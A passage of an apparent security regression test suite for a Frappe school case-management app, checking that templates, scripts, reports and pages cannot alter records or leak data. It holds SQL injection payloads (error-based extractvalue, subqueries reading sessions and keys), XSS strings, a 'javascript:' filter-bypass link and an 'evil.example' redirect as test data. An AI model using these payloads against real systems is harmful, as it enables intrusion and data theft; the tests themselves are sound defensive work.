		"""``html`` as a print format of the site, printed by the System Manager."""
		frappe.db.delete("Print Format", {"name": FORMAT})
		frappe.get_doc(
			{
				"doctype": "Print Format",
				"name": FORMAT,
				"doc_type": doctype,
				"module": "Core",
				"custom_format": 1,
				"print_format_type": "Jinja",
				"standard": "No",
				"html": html,
			}
		).insert()
		frappe.db.commit()
		return self.call(
			"frappe.www.printview.get_html_and_style", doc=doctype, name=name, print_format=FORMAT
		)

	def test_a_template_changes_nothing_and_a_stored_target_is_judged_when_it_runs(self):
		status, answer = self.render(
			f"{{{{ frappe.db.get_value('Notification', '{NOTIFICATION}', 'document_type') }}}}"
		)
		self.assertEqual(status, 200, answer)
		self.assertIn("ToDo", json.dumps(answer), "the positive control: the template reads and renders")
		# the record Frappe prints is the print format's to change (ERPNext's voucher formats set
		# their heading on it)
		note = frappe.get_doc({"doctype": "Note", "title": "Af te drukken", "public": 1}).insert()
		frappe.db.commit()
		self.addCleanup(frappe.db.delete, "Note", {"name": note.name})
		status, answer = self.render("{{ doc.set('title', 'Kopregel') or doc.title }}", "Note", note.name)
		self.assertEqual(status, 200, answer)
		self.assertIn("Kopregel", json.dumps(answer))
		self.render(
			f"{{% set _ = frappe.db.set_value('Notification', '{NOTIFICATION}', "
			"{'document_type': 'Meldcode ' ~ 'Signal', 'condition': '{}[doc.as_json()]'}) %}"
			"{% set _ = frappe.db.commit() %}done"
		)
		frappe.db.rollback()
		self.assertEqual(frappe.db.get_value("Notification", NOTIFICATION, "document_type"), "ToDo")

		door = "frappe.email.doctype.notification.notification.get_documents_for_today"
		status, answer = self.call(door, notification=NOTIFICATION)
		self.assertEqual(status, 200, f"the positive control: the door answers for ToDos: {answer}")
		# Had anything turned it onto signals (the bench's Administrator here), the door refuses.
		frappe.db.set_value("Notification", NOTIFICATION, "document_type", "Meldcode Signal")
		frappe.db.commit()
		try:
			status, answer = self.call(door, notification=NOTIFICATION)
			self.assertEqual(status, 403, answer)
			self.assertNotIn("Onveranderde", json.dumps(answer))
		finally:
			frappe.db.set_value("Notification", NOTIFICATION, "document_type", "ToDo")
			frappe.db.commit()

	def test_a_script_changes_no_configuration_and_no_one_elses_access(self):
		watch_database()
		try:
			with patch("frappe.utils.safe_exec.is_safe_exec_enabled", return_value=True):
				safe_exec("frappe.db.set_value('Note', {'title': 'x'}, 'content', 'y')")
				for script in (
					f"frappe.db.set_value('Notification', '{NOTIFICATION}', 'document_type', 'Meldcode ' + 'Signal')",
					"frappe.db.set_value('Auto Email Report', {'name': 'x'}, 'user', 'Administrator')",
					"frappe.db.set_value('User', 'Administrator', 'enabled', 1)",
					"frappe.db.set_value('System Settings', 'System Settings', 'enable_two_factor_auth', 0)",
				):
					with self.assertRaises(frappe.PermissionError, msg=script):
						safe_exec(script)
		finally:
			del frappe.db.sql, frappe.db.meldcode_watched  # back to the connection's own
		self.assertEqual(frappe.db.get_value("Notification", NOTIFICATION, "document_type"), "ToDo")

	def test_templates_scripts_and_conditions_change_nothing_frappe_keeps(self):
		"""Rounds 110-112: a Notification's template or condition changed Note's cached definition
		in memory (title template, columns, a field's fetch), and Frappe's own later save of a note
		in the case team's request filled or pasted it. Such code reads a definition, the site's
		cached settings and configuration and a template's globals, and gets copies of their lists. The controls:
		the same code reads them, and changes what it made itself or was handed to print."""
		self.addCleanup(frappe.clear_cache, doctype="Note")
		note = frappe.get_doc({"doctype": "Note", "title": "Proef gedeeld", "public": 1}).insert()
		meta = frappe.get_meta("Note")
		kept = (meta.title_field, meta.get_field("content").fetch_from, len(meta.fields))
		settings = frappe.get_cached_doc("System Settings")
		strict = settings.apply_strict_user_permissions

		def unchanged():
			self.assertIs(frappe.get_meta("Note"), meta)
			fields = (meta.title_field, meta.get_field("content").fetch_from, len(meta.fields))
			self.assertEqual(fields, kept)
			self.assertIs(frappe.get_cached_doc("System Settings"), settings)
			self.assertEqual(settings.apply_strict_user_permissions, strict)
			self.assertEqual(frappe.get_cached_doc("User", "Administrator").user_type, "System User")

		context = {"doc": frappe.get_doc("Note", note.name)}
		for template in (
			"{{ frappe.get_meta('Note').set('title_field', 'content') }}",
			"{{ doc.meta.get_field('content').update({'fetch_from': 'owner.full_name'}) }}",
			"{{ doc.meta.get('fields')[0].set('fieldname', 'x') }}",
			"{{ frappe.get_cached_doc('System Settings').set('apply_strict_user_permissions', 1) }}",
			"{{ frappe.update({'get_meta': frappe.get_doc}) }}",
		):
			with self.assertRaises(frappe.PermissionError, msg=template):
				frappe.render_template(template, context)
			unchanged()
		held = "{% set f = doc.meta.fields %}{{ f.append(f[0]) or f|length }}"
		self.assertEqual(frappe.render_template(held, context), str(kept[2] + 1), "a copy of its own")
		changed = "{{ frappe.utils.update({'formatdate': frappe.bold}) }}{{ frappe.utils.formatdate('2026-12-07') }}"
		self.assertNotIn("<strong>", frappe.render_template(changed, context), "the next template's globals")
		control = "{{ doc.meta.get_field('content').label }} {{ doc.title }} {{ doc.get('title') }}"
		self.assertEqual(
			frappe.render_template(control, context), "Content Proef gedeeld Proef gedeeld", "the control"
		)
		unchanged()
		# Round 145: a notification's template set the name of the record it was sent for to
		# filters, and Frappe's own reload of it loaded a case's ToDo; a template changes no record
		for template in ("{{ doc.set('name', {'title': 'x'}) }}", "{{ doc.update({'title': 'x'}) }}"):
			with self.assertRaises(frappe.PermissionError, msg=template):
				frappe.render_template(template, context)
		self.assertEqual(context["doc"].name, note.name)
		# Round 147: nor through Frappe's code it calls (the mapper set the fields of its target)
		mapping = "{'Note': {'doctype': 'Note', 'field_map': {'title': 'content'}}}"
		mapped = f"{{{{ frappe.get_mapped_doc('Note', doc.name, {mapping}, TARGET, ignore_permissions=True).content }}}}"
		with self.assertRaises(frappe.PermissionError):
			frappe.render_template(mapped.replace("TARGET", "doc"), context)
		self.assertNotEqual(context["doc"].content, "Proef gedeeld")
		self.assertEqual(
			frappe.render_template(mapped.replace("TARGET", "None"), context), "Proef gedeeld", "the control"
		)
		# Round 152: a record a template asked Frappe to print is not printed for it
		asked = frappe.get_doc("Note", note.name)
		heading = "{{ doc.set('title', 'Kop') or doc.title }}"
		# Frappe's print sets this flag on the record it is handed, also when a template asks it
		# (frappe.get_print(doc=doc)); the flag alone makes no record a template's to change
		asked.flags.in_print = True
		with self.assertRaises(frappe.PermissionError):  # ... the next one's changes the record
			frappe.render_template(heading, {"doc": asked})
		self.assertEqual(asked.title, "Proef gedeeld")
		renamed = frappe.get_doc("Note", note.name)
		renamed.name = {"title": "Proef gedeeld"}
		with self.assertRaises(frappe.PermissionError):
			renamed.reload()
		# nor is a record saved under another's name, set after Frappe loaded it (by a script)
		other = frappe.get_doc({"doctype": "Note", "title": "Een ander"}).insert()
		own = frappe.get_doc("Note", note.name)
		own.run_method = lambda method, *args, **kwargs: (
			setattr(own, "name", other.name) if method == "before_save" else None
		)
		with self.assertRaises(frappe.PermissionError):
			own.save()
		self.assertEqual(frappe.db.get_value("Note", other.name, "title"), "Een ander")
		other.title = "Een ander, bijgewerkt"
		other.save()  # the control: a record saved under its own name

		with patch("frappe.utils.safe_exec.is_safe_exec_enabled", return_value=True):
			for script in (
				"frappe.get_meta('Note').title_field = 'content'",
				"frappe.get_meta('Note').get_field('content').update({'fetch_from': 'x.y'})",
				"frappe.get_cached_doc('User', 'Administrator').update({'user_type': 'Website User'})",
			):
				with self.assertRaises(frappe.PermissionError, msg=script):
					safe_exec(script)
				unchanged()
			found, _locals = safe_exec(
				"fields = frappe.get_meta('Note').get('fields')\nfields.append(fields[0])\n"
				"n = frappe.new_doc('Note')\nn.title = 'Eigen'\nn.set('content', 'x')\ntitle = n.title",
			)
			self.assertEqual((len(found["fields"]), found["title"]), (kept[2] + 1, "Eigen"), "the control")
			unchanged()

		for condition in ("doc.set('title', 'x')", "doc.meta.get_field('content').set('fetch_from', 'x.y')"):
			with self.assertRaises(frappe.PermissionError, msg=condition):
				frappe.safe_eval(condition, None, {"doc": note})
		self.assertEqual(note.title, "Proef gedeeld")
		unchanged()
		self.assertTrue(
			frappe.safe_eval(
				"doc.get('title') == 'Proef gedeeld' and doc.meta.get_field('content').label",
				None,
				{"doc": note},
			),
			"the control",
		)

	def test_a_notification_pastes_field_names_only_and_no_error_echoes_a_value(self):
		"""Round 141: a Notification's date field (Frappe pastes it as a column, checked only by a
		reading that skips "/*!select*/") read a case's comment and a reset key back through
		MariaDB's error, which Frappe made an Error Log's title. It names a field of its DocType,
		one stored otherwise runs nothing, no statement with an executable comment or an echoing
		function runs, and an Error Log keeps no database error's values. The controls: a date
		field is saved and its notification runs."""
		payload = (
			"ifnull(extractvalue(1,(/*!select*/concat(0x7e,mid(content,1,28))from tabComment limit 1)),1)"
		)
		door = "frappe.email.doctype.notification.notification.get_documents_for_today"
		params = {"doctype": "Notification", "name": NOTIFICATION, "fieldname": "date_changed"}
		status, answer = self.call("frappe.client.set_value", **params, value=payload)
		self.assertNotEqual(status, 200, answer)
		self.assertEqual(frappe.db.get_value("Notification", NOTIFICATION, "date_changed"), "creation")
		status, answer = self.call("frappe.client.set_value", **params, value="modified")
		self.assertEqual(status, 200, f"the control: a date field of ToDo: {answer}")
		frappe.db.set_value("Notification", NOTIFICATION, "date_changed", payload)  # stored past the check
		frappe.db.commit()
		try:
			status, answer = self.call(door, notification=NOTIFICATION)
			self.assertEqual((status, answer), (200, []))
		finally:
			frappe.db.set_value("Notification", NOTIFICATION, "date_changed", "creation")
			frappe.db.commit()
		db = a_new_connection()
		self.addCleanup(db.close)
		self.assertEqual(db.sql("select /* a comment */ 1"), ((1,),), "the control")
		for statement in (f"select name from `tabToDo` where {payload} is not null", "select 1 /*!, 2 */"):
			with self.assertRaises(frappe.PermissionError, msg=statement):
				db.sql(statement)
		title = """(1105, "XPATH syntax error: '~GEHEIM-B commentaar'")"""
		log = frappe.get_doc({"doctype": "Error Log", "method": title, "error": f"OperationalError: {title}"})
		log.insert(ignore_permissions=True)
		self.addCleanup(frappe.delete_doc, "Error Log", log.name, force=True)
		stored = frappe.db.get_value("Error Log", log.name, ["method", "error"])
		self.assertNotIn("GEHEIM", str(stored))
		self.assertIn("XPATH syntax error", stored[0])

	def test_a_records_table_holds_its_own_rows_only(self):
		"""Round 143: a Notification's template on Note appended an access grant and a school's
		staff row, built with frappe.get_doc, to the note's "seen by" table, and the note's save
		wrote them into the app's tables: a staff member of another school then read school B's
		dossier. A template changes no record (access/shared_objects.py), and a record with a
		row of another DocType is not written, however the row got there. The control: a row of
		its own is saved."""
		grants = frappe.db.count("Meldcode Access Grant")
		grant = {
			"doctype": "Meldcode Access Grant",
			"user": SYSTEM_MANAGER,
			"school": SCHOOL_B,
			"function": "Aandachtsfunctionaris",
			"status": "Active",
		}
		frappe.db.delete("Notification", {"name": "Meldcode Rijen Proef"})
		frappe.get_doc(
			{
				"doctype": "Notification",
				"name": "Meldcode Rijen Proef",
				"subject": "Rijen",
				"document_type": "Note",
				"event": "Method",
				"method": "validate",
				"channel": "System Notification",
				"message": f"{{% set _ = doc.flags.update({{'ignore_children': 1}}) %}}"
				f"{{% set _ = doc.append('seen_by', frappe.get_doc({grant!r})) %}}klaar",
				"recipients": [{"receiver_by_role": "System Manager"}],
			}
		).insert()
		frappe.db.commit()
		self.addCleanup(frappe.cache.hdel, "notifications", "Note")
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Notification", {"name": "Meldcode Rijen Proef"})
		status, answer = self.call("frappe.client.insert", doc={"doctype": "Note", "title": "Rijen proef"})
		self.assertIn(status, (200, 403), answer)  # the template changes no record; the note saves
		frappe.db.rollback()
		self.assertEqual(frappe.db.count("Meldcode Access Grant"), grants)
		self.addCleanup(frappe.db.delete, "Note", {"title": "Rijen proef"})
		frappe.delete_doc("Notification", "Meldcode Rijen Proef", force=True)
		note = frappe.get_doc({"doctype": "Note", "title": "Rijen eigen"})
		note.append("seen_by", {"user": "Administrator"})
		note.insert()
		self.assertEqual(len(frappe.get_doc("Note", note.name).seen_by), 1, "the control: its own row")
		# however a row of another DocType got into the table (code of the site's may add one)
		note.append("seen_by", frappe.get_doc({"doctype": "ToDo", "description": "Rij van een ander"}))
		with self.assertRaises(frappe.PermissionError):
			note.save()
		note.reload()
		note.flags.ignore_children = True
		note.update({"seen_by": [frappe.get_doc({"doctype": "ToDo", "description": "Rij van een ander"})]})
		with self.assertRaises(frappe.PermissionError):
			note.save()
		self.assertFalse(frappe.db.exists("ToDo", {"description": "Rij van een ander"}))

	def test_a_web_forms_condition_names_fields_and_no_form_shows_a_trace(self):
		"""Round 144: a Website Manager's web form on ToDo kept a condition Frappe pastes into its
		query for every visitor ("ifnull(locate('GEHEIM-B', description), 0) > 0 || ..."), and the
		form's redirect to the first record told a case ToDo's name and, letter by letter, its
		text. A form's condition names fields, and no form shows a trace. The control: a plain
		condition on Note is saved."""
		manager = make_user(WEBSITE_MANAGER, "Website", "Website Manager")
		token = api_token(manager)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Web Form", {"owner": manager})

		def form(doc_type, condition):
			route = f"meldcode-formulier-{frappe.generate_hash(length=6)}"
			return request_as(
				token,
				"frappe.client.insert",
				"post",
				doc={
					"doctype": "Web Form",
					"title": route,
					"route": route,
					"doc_type": doc_type,
					"module": "Website",
					"login_required": 1,
					"published": 1,
					"condition_json": json.dumps(condition),
				},
			)

		injected = "ifnull(locate('GEHEIM-B',`tabNote`.`content`),0)>0 || ifnull(`tabNote`.`name`,'')"
		self.assertEqual(form("Note", [["title", "=", "Rooster"]])[0], 200, "the control")
		for doc_type, condition in (("Note", [[injected, "=", "zz"]]), ("Note", ["content like '%x%'"])):
			status, answer = form(doc_type, condition)
			self.assertEqual(status, 403, answer)
		status, answer = form("ToDo", [["status", "=", "Open"]])
		self.assertEqual(status, 403, answer)
		self.assertIn("ToDo", str(answer))

	def test_a_job_a_template_queues_runs_as_the_template(self):
		"""A template's ``frappe.enqueue`` queues a whitelisted method that runs later as the
		request's user with no template on its stack: a notification rendered in a case-team
		member's request would read as she does. The job runs as the template that queued it. The
		control: the same method, run by Frappe's own code, reads the case records."""
		from types import SimpleNamespace

		from frappe.utils.background_jobs import get_job

		from meldcode_app.access.sandboxed_code import RUN_AS_ITS_CODE, TEMPLATE, run_as_its_code

		job_id = f"meldcode-proef-{frappe.generate_hash(length=6)}"
		frappe.render_template(
			f"{{{{ frappe.enqueue('frappe.client.get_list', doctype='Meldcode ' ~ 'Signal', job_id='{job_id}') }}}}",
			{},
		)
		job = get_job(job_id)
		self.addCleanup(job.delete)
		self.assertEqual(job.kwargs["method"], RUN_AS_ITS_CODE)
		self.assertEqual(job.kwargs["kwargs"]["meldcode_code"], TEMPLATE)
		watch_database()
		request = getattr(frappe.local, "request", None)
		frappe.local.request = SimpleNamespace(method="POST")  # Frappe's check of the method's verb
		try:
			self.assertTrue(frappe.call("frappe.client.get_list", doctype="Meldcode Signal"), "the control")
			with self.assertRaises(frappe.PermissionError):
				run_as_its_code(**job.kwargs["kwargs"])
		finally:
			frappe.local.request = request
			del frappe.db.sql, frappe.db.meldcode_watched  # back to the connection's own

	def test_a_message_a_template_shows_is_text(self):
		"""Round 149: a System Manager's notification template called ``frappe.msgprint`` during a
		case-team member's login; the markup went into her answer and her browser ran it: a script
		read school B's signal with her session and sent her password as she typed it. A message
		shown while a template runs is text, with no action to click. The control: Frappe's own
		message keeps its markup."""
		frappe.clear_messages()
		frappe.msgprint("<b>Eigen bericht</b>")
		self.assertEqual(frappe.local.message_log[-1]["message"], "<b>Eigen bericht</b>", "the control")
		frappe.render_template(
			"{% set _ = frappe.msgprint('<img src=x onerror=alert(1)>', title='<b>Kop</b>', "
			"primary_action={'label': 'Ja', 'server_action': 'frappe.client.delete'}) %}",
			{},
		)
		shown = frappe.local.message_log[-1]
		self.assertEqual(shown["message"], "&lt;img src=x onerror=alert(1)&gt;")
		self.assertEqual(shown["title"], "&lt;b&gt;Kop&lt;/b&gt;")
		self.assertNotIn("primary_action", shown)
		# Round 159: the indicator went into the alert's markup; a colour stays a colour.
		frappe.render_template(
			"{% set _ = frappe.msgprint('Let op', indicator='red\"><img src=x onerror=alert(1)>', "
			"alert=1) %}{% set _ = frappe.msgprint('Goed', indicator='green') %}",
			{},
		)
		bad, good = frappe.local.message_log[-2:]
		self.assertEqual((bad["message"], bad["alert"]), ("Let op", 1))
		self.assertNotIn("indicator", bad)
		self.assertEqual(good["indicator"], "green", "the control: a colour by its name")
		with self.assertRaises(frappe.ValidationError):
			frappe.render_template("{% set _ = frappe.throw('<script>x()</script>') %}", {})
		self.assertNotIn("<script>", str(frappe.local.message_log[-1]))
		frappe.clear_messages()

	def test_an_error_out_of_stored_code_is_shown_as_text(self):
		"""Round 161: Frappe quotes an error out of a notification's condition (with its traceback's
		values), a notification's template (with its source) or an assignment rule's condition in a
		message of its own, once the code has ended; with ``int("<img src=x onerror=…>")`` as the
		condition the script ran in a case-team member's login page and desk and read school B's
		signal. Such an error is text. The control: the error is still shown."""
		markup = "<img src=x onerror=alert(1)>"
		notification = {
			"doctype": "Notification",
			"name": "Meldcode Fout",
			"subject": "s",
			"document_type": "Note",
			"event": "New",
			"channel": "System Notification",
			"enabled": 1,
			"message": "x",
			"recipients": [{"receiver_by_role": "System Manager"}],
		}
		stored = {
			"a notification's condition": {
				**notification,
				"condition": f'doc.title == "Meldcode fout 0" and int("{markup}")',  # passes the save's check
			},
			"a notification's template": {**notification, "message": markup + "{{ nothing.x }}"},
			"an assignment rule's condition": {
				"doctype": "Assignment Rule",
				"name": "Meldcode Fout",
				"document_type": "Note",
				"priority": 0,
				"rule": "Round Robin",
				"description": "x",
				"users": [{"user": SYSTEM_MANAGER}],
				"assignment_days": [
					{"day": day}
					for day in ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")
				],
				"assign_condition": f'title == "Meldcode fout 2" and int("{markup}")',
			},
		}

		def remove():
			frappe.db.delete("Notification", {"name": "Meldcode Fout"})
			frappe.db.delete("Assignment Rule", {"name": "Meldcode Fout"})
			frappe.db.delete("Note", {"title": ("like", "Meldcode fout%")})
			frappe.db.commit()
			frappe.cache.hdel("notifications", "Note")
			frappe.clear_document_cache("Assignment Rule", "Meldcode Fout")
			frappe.cache_manager.clear_doctype_map("Assignment Rule", "Note")

		stored["an assignment rule's condition, a tuple (round 163)"] = {
			**stored["an assignment rule's condition"],
			"assign_condition": f'title == "Meldcode fout 3" and {{}}[("{markup}",)]',
		}
		self.addCleanup(remove)
		for number, (what, code) in enumerate(stored.items()):
			remove()
			frappe.get_doc(code).insert()
			frappe.db.commit()
			answer = make_request(
				target=get_test_client(use_cookies=False).post,
				args=("/api/resource/Note",),
				kwargs={
					"headers": {"Authorization": self.token},
					"json": {"title": f"Meldcode fout {number}"},
				},
			)
			shown = (answer.json or {}).get("_server_messages") or ""
			self.assertIn("lt;img src=x", shown, f"the control: {what}'s error is shown: {answer.json}")
			self.assertNotIn(markup, shown.replace("\\", ""), what)

	def test_an_auto_email_report_reads_as_whoever_sets_it_up(self):
		frappe.get_doc(builder_report(columns_key="columns")).insert()
		frappe.db.commit()
		report = emailed_report()
		status, answer = self.call("frappe.client.insert", doc={**report, "user": "Administrator"})
		self.assertEqual(status, 403, answer)
		status, answer = self.call("frappe.client.insert", doc={**report, "user": SYSTEM_MANAGER})
		self.assertEqual(status, 200, f"the positive control: one's own report: {answer}")

	def test_a_saved_chart_report_or_card_keeps_field_names_only(self):
		"""Round 51: a chart saved with a subquery as its expression, and a Report Builder report
		whose column ended its quoted name, read comments, sessions and reset links six bytes a
		run, in requests that carried no SQL; Frappe runs the stored chart whatever chart is
		posted beside its name, and an e-mailed report its report as stored."""
		comment = "(select conv(hex(mid(group_concat(content),1,6)),16,10)*1 from tabComment)"
		chart = {
			"chart_name": "Meldcode Sandbox Chart Plain",
			"chart_type": "Group By",
			"document_type": "ToDo",
			"group_by_type": "Sum",
			"group_by_based_on": "status",
			"aggregate_function_based_on": "priority",
			"filters_json": "[]",
			"type": "Bar",
		}
		create = "frappe.desk.doctype.dashboard_chart.dashboard_chart.create_dashboard_chart"
		door = "frappe.desk.doctype.dashboard_chart.dashboard_chart.get"
		column = "name` * 0 + (select 1 from `tabComment`) as `c0"
		report, emailed = builder_report(), emailed_report(user=SYSTEM_MANAGER)
		download = "frappe.email.doctype.auto_email_report.auto_email_report.download"
		frappe.db.delete("Dashboard Chart", {"name": ("like", "Meldcode Sandbox Chart%")})
		frappe.db.delete("Report", {"name": REPORT})
		frappe.db.commit()
		try:
			status, answer = self.call(create, args=chart)
			self.assertEqual(status, 200, f"the positive control: a chart of field names: {answer}")
			bad = {**chart, "chart_name": "Meldcode Sandbox Chart", "aggregate_function_based_on": comment}
			status, answer = self.call(create, args=bad)
			self.assertEqual(status, 403, answer)
			status, answer = self.call(
				"frappe.desk.reportview.save_report",
				doctype="ToDo",
				name=REPORT,
				report_settings=json.dumps({"fields": [[column, "ToDo"]]}),
			)
			self.assertEqual(status, 403, answer)
			status, answer = self.call("frappe.client.insert", doc=report)
			self.assertEqual(status, 200, f"the positive control: a report of field names: {answer}")
			status, answer = self.call("frappe.client.insert", doc=emailed)
			self.assertEqual(status, 200, answer)
			emailed_name = answer["name"]
			status, answer = self.call(download, name=emailed_name)
			self.assertEqual(status, 200, f"the positive control: the e-mailed report runs: {answer}")

			# Stored before these rules (or by the bench's console): refused when they run.
			frappe.db.set_value(
				"Dashboard Chart", "Meldcode Sandbox Chart Plain", "aggregate_function_based_on", comment
			)
			frappe.db.set_value("Report", REPORT, "json", json.dumps({"fields": [[column, "ToDo"]]}))
			frappe.db.commit()
			harmless = json.dumps({**chart, "name": "Meldcode Sandbox Chart Plain"})
			status, answer = self.call(
				door, chart_name="Meldcode Sandbox Chart Plain", chart=harmless, refresh=1
			)
			self.assertEqual(status, 403, answer)
			status, answer = self.call(download, name=emailed_name)
			self.assertEqual(status, 403, answer)
		finally:
			frappe.db.delete("Dashboard Chart", {"name": ("like", "Meldcode Sandbox Chart%")})
			frappe.db.delete("Auto Email Report", {"report": REPORT})
			frappe.db.delete("Report", {"name": REPORT})
			frappe.db.commit()

	def test_a_query_reports_save_as_keeps_field_names_only(self):
		"""Round 52: a System Manager and Script Manager saved a query report's "Save As" with a
		column whose field name was a subquery, its table names written as JSON escapes in two
		texts Frappe pastes together; running the report read the dossiers, sessions and keys."""
		manager = make_user("script.beheer@meldcode.test", "Script", "System Manager")
		frappe.get_doc("User", manager).add_roles("Script Manager")
		token = api_token(manager)
		frappe.db.commit()
		own = {"fieldname": "priority", "label": "Priority"}
		linked = {
			"fieldname": "status",
			"doctype": "ToDo",
			"label": "Status",
			"link_field": {"fieldname": "id"},
		}
		escaped = '{"fieldname":"(select\\tgroup_concat(pupil_name)\\tfrom\\t`tabMeldcode Do\\u0073sier`)","doctype":"User","link_field":{"fieldname":"assigned_to/owner"}}'

		def save(name, columns, filters="{}"):
			frappe.db.rollback()
			return request_as(
				token,
				"frappe.desk.query_report.save_report",
				"post",
				reference_report="ToDo",
				report_name=name,
				columns=columns,
				filters=filters,
			)

		def run(name):
			frappe.db.rollback()
			return request_as(token, "frappe.desk.query_report.run", "post", report_name=name, filters="{}")

		try:
			status, answer = save(f"{REPORT} eigen", json.dumps([own, linked]))
			self.assertEqual(status, 200, f"the positive control: a column of a linked DocType: {answer}")
			self.assertEqual(run(answer)[0], 200, "and it runs")
			status, answer = save(f"{REPORT} ontsnapt", f"[{json.dumps(own)},{escaped}]", '{}, "y": {"z": 1}')
			self.assertEqual(status, 403, answer)
			status, answer = save(f"{REPORT} ontsnapt", f'[{json.dumps(own)},{escaped}],"y":{{"z":1', "{}}")
			self.assertEqual(status, 403, answer)
			key = '{"fieldname":"api_ke\\u0079","doctype":"User","link_field":{"fieldname":"assigned_to/owner"}}'
			status, answer = save(f"{REPORT} sleutel", f"[{json.dumps(own)},{key}]")
			self.assertEqual(status, 403, f"a key field, spelled in escapes: {answer}")
			report = {
				"doctype": "Report",
				"report_name": f"{REPORT} sleutel",
				"report_type": "Custom Report",
				"reference_report": "ToDo",
				"ref_doctype": "ToDo",
				"is_standard": "No",
				"module": "Core",
			}
			with self.set_user(manager):  # saved past any request (a data import), as Frappe parses it
				for column, refused in (("api_ke\\u0079", True), ("st\\u0061tus", False)):
					doc = frappe.get_doc({**report, "json": key.replace("api_ke\\u0079", column)})
					doc.json = '{"columns":[' + doc.json + '],"filters":{}}'
					if refused:
						self.assertRaises(frappe.PermissionError, doc.insert)
					else:
						doc.insert()  # the positive control
			frappe.db.rollback()
			stored = frappe.db.get_value("Report", {"report_name": f"{REPORT} eigen"}, "name")
			bad = {**linked, "fieldname": "name` from `tabSessions` -- "}
			frappe.db.set_value("Report", stored, "json", json.dumps({"columns": [own, bad], "filters": {}}))
			frappe.db.commit()  # as saved before the rule
			status, answer = run(stored)
			self.assertEqual(status, 403, answer)
		finally:
			frappe.db.delete("Report", {"report_name": ("like", f"{REPORT} %")})
			frappe.db.commit()

	def test_reports_saved_before_the_rule_are_switched_off(self):
		from meldcode_app.patches import stored_queries_of_field_names

		column = "name` * 0 + (select 1 from `tabComment`) as `c0"
		frappe.db.delete("Auto Email Report", {"report": ("like", f"{REPORT}%")})
		frappe.db.delete("Report", {"name": ("like", f"{REPORT}%")})
		for name, fields in ((REPORT, [[column, "ToDo"]]), (f"{REPORT} plain", [["name", "ToDo"]])):
			frappe.get_doc(builder_report(name)).insert()
			frappe.db.set_value("Report", name, "json", json.dumps({"fields": fields}))  # as before the rule
			frappe.get_doc(emailed_report(name, user="Administrator", enabled=1)).insert()
		stored_queries_of_field_names.execute()
		self.assertEqual(frappe.db.get_value("Report", REPORT, "disabled"), 1)
		self.assertEqual(frappe.db.get_value("Auto Email Report", {"report": REPORT}, "enabled"), 0)
		self.assertEqual(frappe.db.get_value("Report", f"{REPORT} plain", "disabled"), 0, "a plain one stays")
		self.assertEqual(
			frappe.db.get_value("Auto Email Report", {"report": f"{REPORT} plain"}, "enabled"), 1
		)

	def test_a_report_a_job_makes_for_a_user_runs_as_them(self):
		"""Round 176: Frappe runs an Auto Email Report's report with the code as the session's user,
		in the scheduler's job the Administrator: "Permitted Documents For User" listed as the user
		a System Manager's filter named, and her daily mail held a case-team member's ToDo of a
		dossier. A report a job makes for a user runs as that user. The control: her own ToDo."""
		maker = staff_user("B", "Aandachtsfunctionaris")
		dossier = open_dossier("B", [self.signal.name]).name

		def todo(user, **values):
			return as_user(user)(
				lambda: frappe.get_doc(
					{"doctype": "ToDo", "description": "Taak", "allocated_to": user, **values}
				).insert()
			).name

		case_todo = todo(maker, reference_type="Meldcode Dossier", reference_name=dossier)
		own_todo = todo(SYSTEM_MANAGER)

		def mailed(user):
			"""Her daily report of what ``user`` may read, as the scheduler's job makes it."""
			filters = json.dumps({"user": user, "doctype": "ToDo"})
			values = {"user": SYSTEM_MANAGER, "format": "HTML", "filters": filters}
			report = as_user(SYSTEM_MANAGER)(
				lambda: frappe.get_doc(emailed_report("Permitted Documents For User", **values)).insert()
			)
			frappe.local.job = frappe._dict(
				method="frappe.email.doctype.auto_email_report.auto_email_report.send_daily"
			)
			try:
				return frappe.get_doc("Auto Email Report", report.name).get_report_content()
			finally:
				del frappe.local.job

		self.assertIn(own_todo, mailed(SYSTEM_MANAGER), "the control: her own ToDo")
		self.assertNotIn(case_todo, mailed(maker) or "")


class TestCodeInOthersPages(MeldcodeTestCase):
	"""Round 15: a System Manager's translation carried a script that ran in the
	aandachtsfunctionaris's desk and sent out every case they may read; a Website Script read the
	director's password on the login page; an Accounts User's terms template listed the case
	records' files and ToDos and read a verslag's PDF from the disk."""

	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		frappe.set_user("Administrator")
		make_user(SYSTEM_MANAGER, "Systeem", "System Manager")
		cls.token = api_token(SYSTEM_MANAGER)
		cls.website_token = api_token(make_user(WEBSITE_MANAGER, "Website", "Website Manager"))
		frappe.get_doc("User", WEBSITE_MANAGER).add_roles("Workspace Manager")
		frappe.db.commit()

	@classmethod
	def tearDownClass(cls):
		frappe.set_user("Administrator")
		remove_records_of_school(SCHOOLS["A"][0])
		frappe.db.commit()
		super().tearDownClass()

	def call(self, door, http="post", /, **params):
		frappe.db.rollback()
		return request_as(self.token, door, http, **params)

	def test_a_page_sends_its_reader_on_to_a_path_of_this_site_only(self):
		"""Round 151: Frappe's login page goes to its "redirect-to" after the login, through a
		cleaning that removes "javascript" once: a guest's link with "javajavascriptscript:…" ran
		a script with a case-team member's session as she logged in, which read school B's
		signal. A page's redirect is a path of this site. The control: "/app"."""
		for target, status in (
			("/app", 200),
			("javajavascriptscript:fetch('/api/resource/Meldcode Signal')", 403),
			("//evil.example/app", 403),
		):
			answer = request_as({}, "/login", "get", **{"redirect-to": target})
			self.assertEqual(answer[0], status, target)
		# Round 153: a second key the server decodes and the page's script does not
		client = get_test_client(use_cookies=False)

		def page(path):
			return make_request(target=client.get, args=(path,), kwargs={"headers": {}})

		twice = "/login?redirect%2Dto=/app&redirect-to=javajavascriptscript%3Aalert(1)"
		self.assertEqual(page(twice).status_code, 403)
		self.assertEqual(page("/login?redirect%2Dto=/app").status_code, 200, "the control")
		# and a page's argument is text: Frappe's signup page wrote its key into the page it cached
		self.assertEqual(
			page("/complete_signup?key=x%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E").status_code, 403
		)
		self.assertNotIn("<script>alert(1)", page("/complete_signup").get_data(as_text=True))
		# Round 158: a page of another site logs no one into an account it chose
		teacher = staff_user("A", "Teacher")
		sessions = frappe.db.count("Sessions", {"user": teacher})
		login = {"usr": teacher, "pwd": PASSWORD}
		status, _answer = request_as({"Sec-Fetch-Site": "cross-site"}, "login", "post", **login)
